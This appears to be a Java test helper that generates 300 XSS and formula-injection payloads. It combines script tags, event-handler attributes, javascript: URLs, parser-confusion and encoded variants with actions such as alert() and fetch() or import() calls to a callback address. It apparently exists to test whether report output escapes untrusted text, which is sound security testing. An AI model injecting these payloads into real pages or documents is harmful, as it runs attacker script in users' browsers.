package org.clientele.report;

import java.util.ArrayList;
import java.util.List;

/// Three hundred texts that would run, ask or pop up in a page that takes them for markup, script, style or a formula.
final class Payloads {

    private static final List<String> ACTS = List.of(
            "alert(1)", "window.__pwned=1", "fetch('%s')", "import('%s')", "location='%s'", "prompt(document.domain)");

    private static final List<String> CARRIERS = List.of(
            "<script>%s</script>",
            "</script><script>%s</script>",
            "</title></style></textarea></noscript><script>%s</script>",
            "<img src=x onerror=\"%s\">",
            "<img src=\"{here}\" onload=\"%s\">",
            "<svg onload=\"%s\">",
            "<svg><script>%s</script></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=%s&gt;\">",
            "<body onload=\"%s\">",
            "<iframe src=\"javascript:%s\"></iframe>",
            "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
            "<object data=\"javascript:%s\"></object>",
            "<embed src=\"{here}\" onload=\"%s\">",
            "<a href=\"javascript:%s\">tea</a>",
            "<form action=\"{here}\"><button autofocus onfocus=\"%s\">x</button></form>",
            "<input autofocus onfocus=\"%s\">",
            "<details open ontoggle=\"%s\">",
            "<video><source onerror=\"%s\"></video>",
            "<audio src=x onerror=\"%s\">",
            "<marquee onstart=\"%s\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:%s\">",
            "<base href=\"{here}\"><script src=a.js></script>%s",
            "<link rel=stylesheet href=\"{here}\"><!-- %s",
            "<style>@import '{here}';*{background:url({here})}</style>%s",
            "\" onmouseover=\"%s\" x=\"",
            "' onfocus='%s' autofocus='",
            "javascript:%s",
            "data:text/html,<script>%s</script>",
            "'); %s; ('",
            "\"]}; %s; //",
            "`; %s; `",
            "${%s}",
            "{{constructor.constructor('%s')()}}",
            "%%{x} %%{customdata} %%{text} %s",
            "<b>%s</b><br><sup>2</sup><a href=\"{here}\">x</a>",
            "<span style=\"background:url({here})\">%s</span>",
            "\\u003cscript\\u003e%s\\u003c/script\\u003e",
            "\\x3cscript\\x3e%s",
            "&lt;script&gt;%s&lt;/script&gt;",
            "&#60;script&#62;%s",
            "line\u2028%s\u2029//",
            "]]><script>%s</script>",
            "<!--><script>%s</script>-->",
            "<?xml-stylesheet href=\"{here}\"?>%s",
            "<template><script>%s</script></template>",
            "＜script＞%s＜/script＞",
            "<ScRiPt/x>%s</sCrIpT >",
            "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
            "=HYPERLINK(\"{here}\",\"%s\")",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">");

    private Payloads() {}

    /// @param here an address at which a request is noticed
    static List<String> of(String here) {
        var texts = new ArrayList<String>();
        for (var carrier : CARRIERS) {
            for (var act : ACTS) {
                texts.add(carrier.replace("{here}", here).formatted(act.formatted(here)));
            }
        }
        return List.copyOf(texts);
    }
}
